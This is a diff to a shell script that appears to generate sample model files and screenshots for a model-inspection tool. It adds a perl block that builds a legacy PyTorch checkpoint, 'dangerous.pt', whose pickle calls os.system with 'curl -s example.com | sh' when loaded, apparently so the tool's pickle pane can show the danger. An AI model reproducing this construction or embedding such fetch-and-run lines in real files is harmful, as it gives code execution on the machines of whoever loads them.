@@ -67,6 +67,29 @@ perl -e '
   $header .= " " x (-length($header) % 8);
   print pack("Q<", length($header)), $header, $data;' > "$samples/fp8/model.safetensors"
 
+# A checkpoint of PyTorch that runs a program when it is loaded, in the format before version 1.6.
+perl -e '
+  use strict;
+  my $text = sub { "X" . pack("V", length($_[0])) . $_[0] };
+  my $tensor = sub {
+    my ($key, $rows, $columns) = @_;
+    my $numbers = sub { "(" . join("", map { "J" . pack("V", $_) } @_) . "t" };
+    "ctorch._utils\n_rebuild_tensor_v2\n((" . $text->("storage") . "ctorch\nFloatStorage\n" .
+      $text->($key) . $text->("cpu") . "J" . pack("V", $rows * $columns) . "NtQK\0" .
+      $numbers->($rows, $columns) . $numbers->($columns, 1) . "\x89}tR";
+  };
+  srand(1);
+  my ($entries, $keys, $data) = ("", "", "");
+  for my $key (0 .. 5) {
+    $entries .= $text->("layers.$key.weight") . $tensor->($key, 32, 16);
+    $keys .= $text->($key);
+    $data .= pack("Q<", 512) . join("", map { pack("f<", rand() - 0.5) } 1 .. 512);
+  }
+  print "\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}.",
+    "\x80\x02cos\nsystem\n(", $text->("curl -s example.com | sh"), "tR0",
+    "}(", $text->("epoch"), "K\x0c", $text->("state_dict"), "}(", $entries, "uu.",
+    "\x80\x02](", $keys, "e.", $data;' > "$samples/dangerous.pt"
+
 # picture NAME FILE [OPTION...]
 picture() {
   name=$1
@@ -99,6 +122,7 @@ weight=model.layers.3.mlp.down_proj.weight
 picture quantized fp8/model.safetensors --pane overview
 picture quantized-values fp8/model.safetensors --tensor $weight --pane histogram
 picture quantized-problems fp8/model.safetensors --pane problems --theme dark
+picture pickle dangerous.pt --pane pickle
 picture german nan-and-inf.safetensors --pane problems --language de
 
 # reference LEVEL COMMAND [COMMAND]: its help, and that of the commands below it
